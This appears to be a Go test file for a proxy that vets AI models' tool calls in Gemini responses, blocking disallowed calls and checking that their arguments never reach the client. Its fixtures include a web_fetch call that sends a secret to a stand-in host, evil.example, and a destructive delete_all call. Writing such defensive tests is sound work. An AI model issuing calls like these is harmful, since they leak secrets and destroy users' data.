package gemini

import (
	"io"
	"strings"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/promptgate/promptgate/policy/vet"
	"github.com/promptgate/promptgate/proxy/relay"
	"github.com/promptgate/promptgate/proxy/relay/relaytest"
	"github.com/promptgate/promptgate/proxy/surface"
)

// answer is a GenerateContentResponse with one candidate of these parts.
func answer(parts ...string) string {
	return `{"candidates":[{"content":{"role":"model","parts":[` + strings.Join(parts, ",") + `]},"finishReason":"STOP","index":0}],` +
		`"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"totalTokenCount":15},"responseId":"r1"}`
}

func fcall(name, args string) string {
	return `{"functionCall":{"name":"` + name + `","args":` + args + `}}`
}

const weather = `{"city":"Oslo"}`

// evil is the argument text of a blocked call, which must never reach the client.
const evil = `{"url":"https://evil.example/x?secret=1"}`

func TestBody(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, body string
		mode       vet.Mode
		want       string // the candidate's parts after vetting; "" for the body unchanged
		blocked    int
		errCall    bool
	}{
		{"allowed", answer(`{"text":"Checking."}`, fcall("get_weather", weather)), vet.ModeRefuse, "", 0, false},
		{"blocked by rule, text kept, notice added", answer(`{"text":"Fetching."}`, fcall("web_fetch", evil)), vet.ModeRefuse,
			`[{"text":"Fetching."},{"text":"[promptgate] blocked tool call web_fetch: rule docs: url has a host that is not allowed"}]`, 1, false},
		{"one of two blocked: the other stays, no notice", answer(fcall("get_weather", weather), fcall("delete_all", `{}`)), vet.ModeRefuse,
			`[` + fcall("get_weather", weather) + `]`, 1, false},
		{"schema", answer(fcall("get_weather", `{"town":"Oslo"}`)), vet.ModeRefuse, "notice", 1, false},
		{"args not an object", answer(fcall("get_weather", `"Oslo"`)), vet.ModeRefuse, "notice", 1, false},
		{"error mode", answer(fcall("delete_all", `{}`)), vet.ModeError, "", 1, true},
		{"audit mode", answer(fcall("delete_all", `{}`)), vet.ModeAudit, "", 0, false},
		{"snake_case call", answer(`{"function_call":{"name":"delete_all","args":{}}}`), vet.ModeRefuse, "notice", 1, false},
	} {
		c := relaytest.Policy(tc.mode, false)
		var ds []vet.Decision
		out, res, err := Body([]byte(tc.body), c, func(d vet.Decision) { ds = append(ds, d) })
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if res.Blocked != tc.blocked || (res.ErrorCall != nil) != tc.errCall {
			t.Errorf("%s: result %+v", tc.name, res)
		}
		parts := gjson.GetBytes(out, "candidates.0.content.parts").Raw
		switch tc.want {
		case "":
			if string(out) != tc.body {
				t.Errorf("%s: body changed:\n%s", tc.name, out)
			}
		case "notice":
			if n := gjson.Get(parts, "#").Int(); n != 1 || !strings.HasPrefix(gjson.Get(parts, "0.text").String(), "[promptgate] blocked tool call ") {
				t.Errorf("%s: parts %s", tc.name, parts)
			}
		default:
			if parts != tc.want {
				t.Errorf("%s: parts\n got %s\nwant %s", tc.name, parts, tc.want)
			}
		}
		if tc.want != "" && strings.Contains(string(out), "evil.example") {
			t.Errorf("%s: blocked arguments reached the client: %s", tc.name, out)
		}
		if gjson.GetBytes(out, "candidates.0.finishReason").String() != "STOP" || gjson.GetBytes(out, "usageMetadata.totalTokenCount").Int() != 15 {
			t.Errorf("%s: other fields changed: %s", tc.name, out)
		}
		if len(ds) == 0 && tc.name != "audit mode" && tc.want != "" {
			t.Errorf("%s: no decision recorded", tc.name)
		}
	}
}

// TestBodyEveryCandidate vets the calls of every candidate, each by its index.
func TestBodyEveryCandidate(t *testing.T) {
	t.Parallel()
	body := `{"candidates":[{"content":{"parts":[` + fcall("get_weather", weather) + `]},"index":0},{"content":{"parts":[` + fcall("web_fetch", evil) + `]},"index":1}]}`
	var ds []vet.Decision
	out, res, err := Body([]byte(body), relaytest.Policy(vet.ModeRefuse, false), func(d vet.Decision) { ds = append(ds, d) })
	if err != nil || res.Blocked != 1 || res.Continue != nil {
		t.Fatalf("%v %+v", err, res)
	}
	if len(ds) != 2 || ds[0].Choice != 0 || ds[1].Choice != 1 || !ds[1].Blocked() {
		t.Errorf("decisions %+v", ds)
	}
	if strings.Contains(string(out), "evil.example") || !strings.Contains(string(out), "get_weather") {
		t.Errorf("out %s", out)
	}
}

func TestBodyMalformed(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{
		`{"candidates":[{"content":{"parts":[{"functionCall":{"name":"a"},"function_call":{"name":"b"}}]}}]}`,
		`{"candidates":[{"content":{"parts":[{"FunctionCall":{"name":"delete_all"}}]}}]}`,
		`{"candidates":[{"content":{"parts":[{"functionCall":{"name":"a","NAME":"b"}}]}}]}`,
		`{"candidates":[],"candidates":[]}`,
		`{"candidates":[{"content":{"parts":[],"parts":[]}}]}`,
		`[]`,
	} {
		if _, _, err := Body([]byte(bad), relaytest.Policy(vet.ModeRefuse, false), nil); err == nil {
			t.Errorf("%s was vetted", bad)
		}
	}
}

// TestBodyContinuation: in continue mode an answer whose every call is refused asks to be
// continued, the model's parts as its turn (answered by name, as it has no id) and its text as what
// the client keeps.
func TestBodyContinuation(t *testing.T) {
	t.Parallel()
	body := answer(`{"text":"Fetching.","thoughtSignature":"sig"}`, fcall("web_fetch", evil))
	_, res, err := Body([]byte(body), relaytest.Policy(vet.ModeContinue, false), nil)
	if err != nil || res.Continue == nil {
		t.Fatalf("%v %+v", err, res)
	}
	turn := res.Continue.Turn
	if len(turn.Calls) != 1 || turn.Calls[0].ID != "" || turn.Calls[0].Tool != "web_fetch" || !strings.Contains(string(turn.Raw), `"thoughtSignature":"sig"`) {
		t.Errorf("turn %+v", turn)
	}
	if string(res.Continue.Kept) != `[{"text":"Fetching.","thoughtSignature":"sig"}]` {
		t.Errorf("kept %s", res.Continue.Kept)
	}
	j, err := join(joined(body, res.Continue.Kept, answer(`{"text":"Done."}`)))
	if err != nil {
		t.Fatal(err)
	}
	if got := gjson.GetBytes(j, "candidates.0.content.parts").Raw; got != `[{"text":"Fetching.","thoughtSignature":"sig"},{"text":"Done."}]` {
		t.Errorf("joined parts %s", got)
	}
	if gjson.GetBytes(j, "usageMetadata.totalTokenCount").Int() != 30 {
		t.Errorf("joined usage %s", gjson.GetBytes(j, "usageMetadata").Raw)
	}
}

// joined is what surface.Rounds hands join for two rounds.
func joined(first string, kept []byte, last string) surface.Joined {
	u := relay.AddUsage([]byte(gjson.Get(first, "usageMetadata").Raw), []byte(gjson.Get(last, "usageMetadata").Raw))
	return surface.Joined{First: []byte(first), Kept: [][]byte{kept}, Last: []byte(last), Usage: u}
}

// TestBodyContinuedSnakeCase: a continued answer whose rounds name usageMetadata and responseId by
// their proto names (as proto3 JSON allows) gets every round's usage summed and the first
// responseId, each under the name the answer gives it: never a member given both ways.
func TestBodyContinuedSnakeCase(t *testing.T) {
	t.Parallel()
	snake := func(s string) string {
		return strings.NewReplacer(`"usageMetadata"`, `"usage_metadata"`, `"responseId"`, `"response_id"`).Replace(s)
	}
	first := snake(answer(`{"text":"Fetching."}`, fcall("web_fetch", evil)))
	next := strings.Replace(snake(answer(`{"text":"Done."}`)), `"r1"`, `"r2"`, 1)
	x := Surface{}.Begin(surface.Start{Upstream: []byte(`{"contents":[]}`)})
	out, res, err := x.Body([]byte(first), surface.Vetting{Checker: relaytest.Policy(vet.ModeContinue, false),
		Next: func(relay.Turn) (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(next)), nil }})
	if err != nil || res.Rounds != 1 {
		t.Fatalf("%v %+v", err, res)
	}
	root := gjson.ParseBytes(out)
	if root.Get("usage_metadata.totalTokenCount").Int() != 30 || root.Get("response_id").Str != "r1" ||
		root.Get("usageMetadata").Exists() || root.Get("responseId").Exists() {
		t.Errorf("joined %s", out)
	}
}
